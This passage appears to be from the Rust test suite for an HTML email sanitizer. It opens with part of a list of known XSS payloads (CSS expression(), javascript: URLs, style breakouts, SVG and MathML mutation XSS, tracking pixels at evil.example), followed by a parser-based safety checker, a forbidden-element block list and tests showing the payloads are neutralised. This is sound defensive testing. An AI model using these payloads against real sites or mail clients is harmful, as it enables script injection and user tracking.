        "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029'\\0029\">",
        "<DIV STYLE=\"background-image: url(&#1;javascript:alert('XSS'))\">",
        "<DIV STYLE=\"width: expression(alert('XSS'));\">",
        "<div style=\"background:url(&quot;javascript:alert(1)&quot;)\">x</div>",
        "<div style=\"background:u\\72l(http://evil.example/t.png)\">x</div>",
        "<div style=\"background-image:image-set('http://evil.example/t.png' 1x)\">x</div>",
        "<div style=\"background:url(http://evil.example/a.png)\">x</div>",
        // Breaking out of <style>.
        "<style></style><img src=x onerror=alert(1)></style>",
        "<style><!--</style><img src=x onerror=alert(1)>-->",
        "<style>a{background:url(\"http://evil.example/\\3c/style\\3e\\3cscript\\3e alert(1)\\3c/script\\3e\")}</style>",
        // Namespace confusion and mutation XSS.
        "<svg><script>alert(1)</script></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<svg><style>&lt;/style&gt;&lt;img src=x onerror=alert(1)&gt;</style></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>XSS</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><iframe><a title=\"</iframe><img src onerror=alert(1)>\">test",
        "<math href=\"javascript:alert(1)\">CLICKME</math>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<template><script>alert(1)</script></template>",
        "<textarea><script>alert(1)</script></textarea>",
        "<title><script>alert(1)</script></title>",
        "<xmp><script>alert(1)</script></xmp>",
        "<plaintext><script>alert(1)</script>",
        "<img src=\"x\" `<script>javascript:alert(1)</script>\"`>",
        "\\\";alert('XSS');//",
        // Remote content in attributes.
        "<a href=\"https://example.com\" target=\"_blank\" ping=\"https://evil.example/ping\">ok</a>",
        "<img src=\"https://evil.example/pixel.gif\" srcset=\"https://evil.example/p2.gif 2x\">",
        "<img src=\"//evil.example/pixel.gif\">",
        "<table background=\"https://evil.example/bg.png\"><tr><td background=\"http://evil.example/bg2.png\">x</td></tr></table>",
        "<img src=\"cid:missing@example\">",
    ];

    /// An element as a browser's parser built it.
    #[derive(Debug, Clone)]
    struct Element {
        name: QualName,
        attributes: Vec<(String, String)>,
        /// The text appended directly to it (a style sheet, for <style>).
        text: String,
        is_comment: bool,
    }

    /// A tree sink that records every element html5ever creates, with its
    /// attributes, whether or not it stays in the tree.
    #[derive(Default)]
    struct Recorder {
        nodes: RefCell<Vec<Element>>,
    }

    impl Recorder {
        fn push(&self, element: Element) -> usize {
            let mut nodes = self.nodes.borrow_mut();
            nodes.push(element);
            nodes.len() - 1
        }
    }

    fn attribute_pairs(attrs: Vec<Attribute>) -> Vec<(String, String)> {
        attrs
            .into_iter()
            .map(|a| {
                let name = match &a.name.prefix {
                    Some(prefix) => format!("{prefix}:{}", a.name.local),
                    None => a.name.local.to_string(),
                };
                (name, a.value.to_string())
            })
            .collect()
    }

    impl TreeSink for Recorder {
        type Handle = usize;
        type Output = Vec<Element>;
        type ElemName<'a> = Ref<'a, QualName>;

        fn finish(self) -> Vec<Element> {
            // Index 0 is the document itself.
            self.nodes.into_inner().into_iter().skip(1).collect()
        }
        fn parse_error(&self, _: std::borrow::Cow<'static, str>) {}
        fn get_document(&self) -> usize {
            0
        }
        fn elem_name<'a>(&'a self, target: &'a usize) -> Ref<'a, QualName> {
            Ref::map(self.nodes.borrow(), |nodes| &nodes[*target].name)
        }
        fn create_element(&self, name: QualName, attrs: Vec<Attribute>, _: ElementFlags) -> usize {
            self.push(Element {
                name,
                attributes: attribute_pairs(attrs),
                text: String::new(),
                is_comment: false,
            })
        }
        fn create_comment(&self, text: StrTendril) -> usize {
            self.push(Element {
                name: QualName::new(None, ns!(), "#comment".into()),
                attributes: Vec::new(),
                text: text.to_string(),
                is_comment: true,
            })
        }
        fn create_pi(&self, _: StrTendril, data: StrTendril) -> usize {
            self.create_comment(data)
        }
        fn append(&self, parent: &usize, child: NodeOrText<usize>) {
            if let NodeOrText::AppendText(text) = child {
                self.nodes.borrow_mut()[*parent].text.push_str(&text);
            }
        }
        fn append_based_on_parent_node(
            &self,
            element: &usize,
            _: &usize,
            child: NodeOrText<usize>,
        ) {
            self.append(element, child);
        }
        fn append_doctype_to_document(&self, _: StrTendril, _: StrTendril, _: StrTendril) {}
        fn get_template_contents(&self, target: &usize) -> usize {
            *target
        }
        fn same_node(&self, x: &usize, y: &usize) -> bool {
            x == y
        }
        fn set_quirks_mode(&self, _: QuirksMode) {}
        fn append_before_sibling(&self, _: &usize, _: NodeOrText<usize>) {}
        fn add_attrs_if_missing(&self, target: &usize, attrs: Vec<Attribute>) {
            let mut nodes = self.nodes.borrow_mut();
            let node = &mut nodes[*target];
            for (name, value) in attribute_pairs(attrs) {
                if !node.attributes.iter().any(|(n, _)| *n == name) {
                    node.attributes.push((name, value));
                }
            }
        }
        fn remove_from_parent(&self, _: &usize) {}
        fn reparent_children(&self, _: &usize, _: &usize) {}
    }

    /// Every element a browser builds from `html`, shown as the body of a
    /// document (as the view's frame shows it).
    fn parse(html: &str) -> Vec<Element> {
        let recorder = Recorder::default();
        recorder.push(Element {
            name: QualName::new(None, ns!(), "#document".into()),
            attributes: Vec::new(),
            text: String::new(),
            is_comment: false,
        });
        let document = format!("<!DOCTYPE html><html><head></head><body>{html}</body></html>");
        html5ever::parse_document(recorder, Default::default()).one(document)
    }

    fn elements<'a>(parsed: &'a [Element], name: &'a str) -> impl Iterator<Item = &'a Element> {
        parsed.iter().filter(move |e| &*e.name.local == name)
    }

    fn attribute<'a>(element: &'a Element, name: &str) -> Option<&'a str> {
        element
            .attributes
            .iter()
            .find(|(n, _)| n == name)
            .map(|(_, v)| v.as_str())
    }

    /// Whether CSS would fetch or run anything (checked over its tokens,
    /// escapes and all, not its text).
    fn css_fetches_or_scripts(css: &str, load_remote: bool) -> Option<String> {
        fn walk(p: &mut cssparser::Parser<'_>, load_remote: bool, found: &mut Option<String>) {
            while let Ok(token) = p.next_including_whitespace_and_comments() {
                let token = token.clone();
                let fetches = |url: &str| {
                    let url = url.trim().to_ascii_lowercase();
                    let remote_ok =
                        load_remote && (url.starts_with("http:") || url.starts_with("https:"));
                    !(remote_ok || url.starts_with("data:image/"))
                };
                match &token {
                    cssparser::Token::UnquotedUrl(url) if fetches(url) => {
                        *found = Some(format!("url({url})"));
                    }
                    cssparser::Token::AtKeyword(name)
                        if name.eq_ignore_ascii_case("import") && !load_remote =>
                    {
                        *found = Some("@import".into());
                    }
                    cssparser::Token::Function(name) => {
                        let name = name.to_ascii_lowercase();
                        if name == "expression" || (!load_remote && name.contains("image-set")) {
                            *found = Some(format!("{name}()"));
                        }
                        let is_url = name == "url" || name == "src";
                        let _ = p.parse_nested_block(|p| {
                            if is_url {
                                while let Ok(t) = p.next() {
                                    if let cssparser::Token::QuotedString(url) = t
                                        && fetches(url)
                                    {
                                        *found = Some(format!("url(\"{url}\")"));
                                    }
                                }
                            } else {
                                walk(p, load_remote, found);
                            }
                            Ok::<_, cssparser::ParseError<()>>(())
                        });
                    }
                    cssparser::Token::ParenthesisBlock
                    | cssparser::Token::SquareBracketBlock
                    | cssparser::Token::CurlyBracketBlock => {
                        let _ = p.parse_nested_block(|p| {
                            walk(p, load_remote, found);
                            Ok::<_, cssparser::ParseError<()>>(())
                        });
                    }
                    cssparser::Token::Ident(v) | cssparser::Token::QuotedString(v)
                        if css::names_script(v) =>
                    {
                        *found = Some(format!("script URL {v}"));
                    }
                    _ => {}
                }
            }
        }
        let mut found = None;
        walk(&mut cssparser::Parser::new(css), load_remote, &mut found);
        found
    }

    /// Elements that must never reach the view, whatever the whitelist says.
    const FORBIDDEN_ELEMENTS: &[&str] = &[
        "script",
        "iframe",
        "frame",
        "frameset",
        "object",
        "embed",
        "applet",
        "form",
        "input",
        "button",
        "select",
        "textarea",
        "option",
        "keygen",
        "isindex",
        "meta",
        "base",
        "link",
        "svg",
        "math",
        "video",
        "audio",
        "source",
        "track",
        "bgsound",
        "template",
        "noscript",
        "xss",
        "marquee",
        "xmp",
        "plaintext",
        "title",
        "animate",
        "mglyph",
        "mtext",
        "path",
    ];

    /// Asserts that `html`, read back by a browser's parser, can run nothing
    /// and (unless `load_remote`) fetch nothing; `source` names the input.
    fn assert_safe(html: &str, load_remote: bool, source: &str) {
        let parsed = parse(html);
        let allowed_tags: HashSet<&str> = TAGS
            .iter()
            .copied()
            .chain(["style", "html", "head", "body"])
            .collect();
        for element in &parsed {
            assert!(
                !element.is_comment,
                "comments can hide markup from filters and are stripped: {source:?} gave {html:?}"
            );
            let name = &*element.name.local;
            assert_eq!(
                element.name.ns,
                ns!(html),
                "only HTML elements survive (no SVG or MathML): {source:?} gave {html:?}"
            );
            assert!(
                !FORBIDDEN_ELEMENTS.contains(&name) && allowed_tags.contains(name),
                "<{name}> must not survive: {source:?} gave {html:?}"
            );
            for (attribute, value) in &element.attributes {
                let allowed = GENERIC_ATTRIBUTES.contains(&attribute.as_str())
                    || TAG_ATTRIBUTES
                        .iter()
                        .any(|(tag, attrs)| *tag == name && attrs.contains(&attribute.as_str()))
                    || attribute == "rel"
                    || attribute == BLOCKED_MARKER;
                assert!(
                    allowed && !attribute.to_ascii_lowercase().starts_with("on"),
                    "attribute {attribute} on <{name}> must not survive: {source:?} gave {html:?}"
                );
                assert!(
                    !css::names_script(value),
                    "no attribute may hold a script URL ({attribute}={value:?}): {source:?} gave {html:?}"
                );
                match attribute.as_str() {
                    "href" => {
                        let scheme = Url::parse(value).map(|u| u.scheme().to_owned());
                        assert!(
                            matches!(scheme.as_deref(), Ok("http" | "https" | "mailto")),
                            "links go to http, https or mailto only, not {value:?}: {source:?}"
                        );
                    }
                    "src" | "background" | "srcset" => {
                        let lower = value.to_ascii_lowercase();
                        let remote = lower.starts_with("http:") || lower.starts_with("https:");
                        assert!(
                            lower.starts_with("data:image/") || (load_remote && remote),
                            "{attribute}={value:?} must not load (load_remote {load_remote}): {source:?}"
                        );
                    }
                    "style" => {
                        if let Some(found) = css_fetches_or_scripts(value, load_remote) {
                            panic!("style attribute keeps {found}: {source:?} gave {html:?}");
                        }
                    }
                    _ => {}
                }
            }
            if name == "style"
                && let Some(found) = css_fetches_or_scripts(&element.text, load_remote)
            {
                panic!("<style> keeps {found}: {source:?} gave {html:?}");
            }
        }
    }

    fn clean(html: &str) -> Sanitized {
        sanitize(html, &Options::default())
    }

    fn with_remote(html: &str) -> Sanitized {
        sanitize(
            html,
            &Options {
                load_remote: true,
                ..Options::default()
            },
        )
    }

    #[test]
    fn known_xss_vectors_run_nothing_and_fetch_nothing() {
        for vector in XSS_VECTORS {
            let out = clean(vector);
            assert_safe(&out.html, false, vector);
            // Sanitizing is idempotent on its own output: nothing mutates
            // into something new when parsed again.
            let again = clean(&out.html);
            assert_safe(&again.html, false, vector);
        }
    }

    #[test]
    fn known_xss_vectors_run_nothing_with_remote_content_allowed() {
        for vector in XSS_VECTORS {
            assert_safe(&with_remote(vector).html, true, vector);
        }
    }

    #[test]
    fn vectors_wrapped_in_ordinary_mail_markup_are_still_caught() {
        for vector in XSS_VECTORS {
            let wrapped = format!(
                "<table><tr><td><p>Hello<b>{vector}</b></p></td></tr></table><div>after</div>"
            );
            assert_safe(&clean(&wrapped).html, false, &wrapped);
        }
    }

    #[test]
    fn remote_images_are_blocked_marked_and_counted() {
        let out = clean(
            "<p>Hi</p><img src=\"https://tracker.example/p.gif\" width=\"1\" height=\"1\" alt=\"\">\
             <img src=\"http://cdn.example/logo.png\" alt=\"Logo\">",
        );
        assert_eq!(out.remote_blocked, 2, "two remote images: {}", out.html);
        let parsed = parse(&out.html);
        let images: Vec<_> = elements(&parsed, "img").collect();
        assert_eq!(
            images.len(),
            2,
            "blocked images stay, for a placeholder: {}",
            out.html
        );
        for image in images {
            assert_eq!(
                attribute(image, "src"),
                None,
                "no src, no request: {}",
                out.html
            );
            assert_eq!(
                attribute(image, BLOCKED_MARKER),
                Some(""),
                "the view finds blocked images by the marker: {}",
                out.html
            );
        }
        assert!(
            out.html.contains("width=\"1\"") && out.html.contains("alt=\"Logo\""),
            "size and alt text stay for the placeholder: {}",
            out.html
        );
        assert!(!out.html.contains("tracker.example") && !out.html.contains("cdn.example"));
    }

    #[test]
    fn remote_content_loads_when_allowed() {
        let html = "<img src=\"https://cdn.example/logo.png\" srcset=\"https://cdn.example/logo@2x.png 2x\">\
                    <div style=\"background:url(https://cdn.example/bg.png)\">x</div>\
                    <table background=\"https://cdn.example/t.png\"><tr><td>y</td></tr></table>";
        let out = with_remote(html);
        assert_eq!(out.remote_blocked, 0, "{}", out.html);
        let parsed = parse(&out.html);
        let image = elements(&parsed, "img").next().expect("the image stays");
        assert_eq!(
            attribute(image, "src"),
            Some("https://cdn.example/logo.png")
        );
        assert_eq!(
            attribute(image, "srcset"),
            Some("https://cdn.example/logo@2x.png 2x")
        );
        assert_eq!(attribute(image, BLOCKED_MARKER), None);
        let div = elements(&parsed, "div").next().expect("the div stays");
        assert_eq!(
            attribute(div, "style"),
            Some("background: url(\"https://cdn.example/bg.png\") ")
        );
        let table = elements(&parsed, "table").next().expect("the table stays");
        assert_eq!(
            attribute(table, "background"),
            Some("https://cdn.example/t.png")
        );

        let blocked = clean(html);
        assert_eq!(
            blocked.remote_blocked, 4,
            "image, srcset, CSS url and background: {}",
            blocked.html
        );
    }

    #[test]
    fn css_urls_imports_and_image_sets_are_removed_and_counted() {
        let html = "<style>@import url(https://evil.example/a.css);\
                    @\\69mport 'https://evil.example/b.css';\
                    .hero{background:url('https://evil.example/hero.png') no-repeat;color:#333}\
                    .x{background-image:u\\72l(https://evil.example/x.png)}\
                    .y{background-image:image-set('https://evil.example/y.png' 1x)}\
                    @font-face{font-family:F;src:url(//evil.example/f.woff)}</style>\
                    <p style=\"color:red;background:url(http://evil.example/p.png)\">x</p>";
        let out = clean(html);
        assert_eq!(out.remote_blocked, 7, "{}", out.html);
        assert_safe(&out.html, false, html);
        assert!(!out.html.contains("evil.example"), "{}", out.html);
        assert!(
            out.html.contains("color:#333") && out.html.contains("color:red"),
            "the rest of the styling stays: {}",
            out.html
        );

        let allowed = with_remote(html);
        assert_eq!(allowed.remote_blocked, 0, "{}", allowed.html);
        assert_safe(&allowed.html, true, html);
        assert!(
            allowed
                .html
                .contains("@import url(\"https://evil.example/a.css\") ;")
                && allowed
                    .html
                    .contains("@import url(\"https://evil.example/b.css\") ;"),
            "{}",
            allowed.html
        );
        assert!(
            allowed
                .html
                .contains("url(\"https://evil.example/f.woff\")")
        );
    }

    #[test]
    fn expression_and_script_urls_never_survive_even_with_remote_content() {
        let html = "<div style=\"width:expression(alert(1));color:blue\">x</div>\
                    <style>a{background:url(javascript:alert(1))} b{x:expression(alert(2))}</style>";
        let out = with_remote(html);
        assert!(
            !out.html.to_ascii_lowercase().contains("expression"),
            "{}",
            out.html
        );
        assert!(
            !out.html.to_ascii_lowercase().contains("javascript"),
            "{}",
            out.html
        );
        assert!(
            !out.html.contains("alert"),
            "the arguments go too: {}",
            out.html
        );
        assert!(out.html.contains("color:blue"), "{}", out.html);
    }

    #[test]
    fn style_elements_are_kept_for_layout_even_from_the_head() {
        let html = "<html><head><meta charset=utf-8><title>News</title>\
                    <style type=\"text/css\">.btn{color:#fff;background:#0a66c2} @media (max-width:600px){.col{display:block}}</style>\
                    </head><body><a class=\"btn\" href=\"https://example.com/\">Apply</a></body></html>";
        let out = clean(html);
        let parsed = parse(&out.html);
        let style = elements(&parsed, "style")
            .next()
            .expect("the style sheet stays");
        assert_eq!(
            style.text,
            ".btn{color:#fff;background:#0a66c2} @media (max-width:600px){.col{display:block}}",
            "a safe sheet is kept byte for byte"
        );
        assert!(
            !out.html.contains("News"),
            "the head's title is not body text: {}",
            out.html
        );
        assert_eq!(out.remote_blocked, 0);
    }

    #[test]
    fn cid_references_become_the_messages_own_images() {
        let mut images = InlineImages::new();
        assert!(images.insert("<logo.123@example.com>", "image/png", b"\x89PNG fake"));
        assert!(
            !images.insert(
                "script@example.com",
                "text/html",
                b"<script>alert(1)</script>"
            ),
            "only images are offered to cid: references"
        );
        assert_eq!(images.len(), 1);
        let options = Options {
            load_remote: false,
            inline_images: images,
        };
        let out = sanitize(
            "<img src=\"cid:logo.123@example.com\" alt=\"Logo\">\
             <img src=\"CID:logo.123%40example.com\">\
             <img src=\"cid:script@example.com\">\
             <td background=\"cid:LOGO.123@example.com\">x</td>\
             <div style=\"background:url(cid:logo.123@example.com)\">y</div>",
            &options,
        );
        let data_url = format!(
            "data:image/png;base64,{}",
            base64::engine::general_purpose::STANDARD.encode(b"\x89PNG fake")
        );
        let parsed = parse(&out.html);
        let sources: Vec<_> = elements(&parsed, "img")
            .map(|img| attribute(img, "src"))
            .collect();
        assert_eq!(
            sources,
            vec![Some(data_url.as_str()), Some(data_url.as_str()), None],
            "exact and percent-encoded references resolve; a non-image part does not: {}",
            out.html
        );
        let div = elements(&parsed, "div").next().expect("the div stays");
        assert_eq!(
            attribute(div, "style"),
            Some(format!("background: url(\"{data_url}\") ").as_str()),
            "cid: in CSS resolves too: {}",
            out.html
        );
        assert_eq!(out.remote_blocked, 0, "inline images are not remote");
        assert_safe(&out.html, false, "cid test");
    }

    #[test]
    fn data_images_stay_other_data_urls_go() {
        let out = clean(
            "<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">\
             <img src=\"data:text/html;base64,PHNjcmlwdD4=\">",
        );
        let parsed = parse(&out.html);
        let sources: Vec<_> = elements(&parsed, "img")
            .map(|img| attribute(img, "src"))
            .collect();
        assert_eq!(
            sources,
            vec![Some("data:image/gif;base64,R0lGODlhAQABAAAAACw="), None]
        );
        assert_eq!(out.remote_blocked, 0);
    }

    #[test]
    fn links_keep_their_real_target_and_open_nothing_else() {
        let out = clean(
            "<a href=\"https://example.com/jobs?id=7#apply\" target=\"_blank\" onclick=\"x()\">Apply</a>\
             <a href=\"http://bücher.example/\">IDN</a>\
             <a href=\"mailto:anna@example.pl?subject=Hi\">Mail</a>\
             <a href=\"javascript:alert(1)\">JS</a>\
             <a href=\"/relative/path\">Relative</a>\
             <a href=\"ftp://files.example/cv.pdf\">FTP</a>",
        );
        let parsed = parse(&out.html);
        let links: Vec<_> = elements(&parsed, "a").collect();
        let targets: Vec<_> = links.iter().map(|a| attribute(a, "href")).collect();
        assert_eq!(
            targets,
            vec![
                Some("https://example.com/jobs?id=7#apply"),
                Some("http://xn--bcher-kva.example/"),
                Some("mailto:anna@example.pl?subject=Hi"),
                None,
                None,
                None,
            ],
            "http, https and mailto survive, shown as the browser would go there: {}",
            out.html
        );
        for link in &links {
            assert_eq!(attribute(link, "rel"), Some("noopener noreferrer"));
            assert_eq!(
                attribute(link, "target"),
                None,
                "the view decides how links open"
            );
        }
        assert!(
            out.html.contains(">JS</a>"),
            "the text of a dropped link stays"
        );
    }

    #[test]
    fn tables_keep_their_layout_attributes() {
        let out = clean(
            "<table width=\"600\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" bgcolor=\"#ffffff\" align=\"center\">\
             <tr><td valign=\"top\" align=\"left\" width=\"50%\" colspan=\"2\" style=\"padding:8px\">x</td></tr></table>\
             <font color=\"#333\" face=\"Arial\" size=\"2\">y</font>",
        );
        assert_eq!(
            out.html,
            "<table width=\"600\" cellpadding=\"0\" cellspacing=\"0\" border=\"0\" bgcolor=\"#ffffff\" align=\"center\">\
             <tbody><tr><td valign=\"top\" align=\"left\" width=\"50%\" colspan=\"2\" style=\"padding:8px\">x</td></tr></tbody></table>\
             <font color=\"#333\" face=\"Arial\" size=\"2\">y</font>"
        );
    }

    #[test]
    fn forms_go_but_their_text_stays() {
        let out = clean(
            "<form action=\"https://evil.example/\"><p>Your CV</p><input name=a><button>Send</button></form>",
        );
        assert_eq!(out.html, "<p>Your CV</p>");
    }

    #[test]
    fn the_second_pass_reads_only_serializer_output() {
        let policy = Policy {
            load_remote: false,
            images: InlineImages::default(),
            markers: true,
            tags: TAGS.iter().copied().collect(),
            blocked: AtomicU32::new(0),
        };
        assert_eq!(
            finish("<p title=\"a>b\">x &lt; y</p>", &policy)
                .map(|r| r.0)
                .as_deref(),
            Some("<p title=\"a>b\">x &lt; y</p>")
        );
        assert_eq!(
            finish(
                "<img alt=\" src=&quot;candor-blocked:remote&quot;\">",
                &policy
            )
            .map(|r| r.0)
            .as_deref(),
            Some("<img alt=\" src=&quot;candor-blocked:remote&quot;\">"),
            "only a real src attribute is taken for the marker"
        );
        assert_eq!(
            finish("<p", &policy),
            None,
            "an unterminated tag is not serializer output"
        );
        assert_eq!(
            finish("<style>a{}", &policy),
            None,
            "nor is an unclosed style element"
        );
    }

    #[test]
    fn deep_css_nesting_is_bounded() {
        let deep = format!(
            "<div style=\"a:{}b{}\">x</div>",
            "(".repeat(10_000),
            ")".repeat(10_000)
        );
        let out = clean(&deep);
        assert_safe(&out.html, false, "deep nesting");
        let sheet = format!("<style>{}</style>", "a{".repeat(5_000));
        assert_safe(&clean(&sheet).html, false, "deep sheet");
    }
}
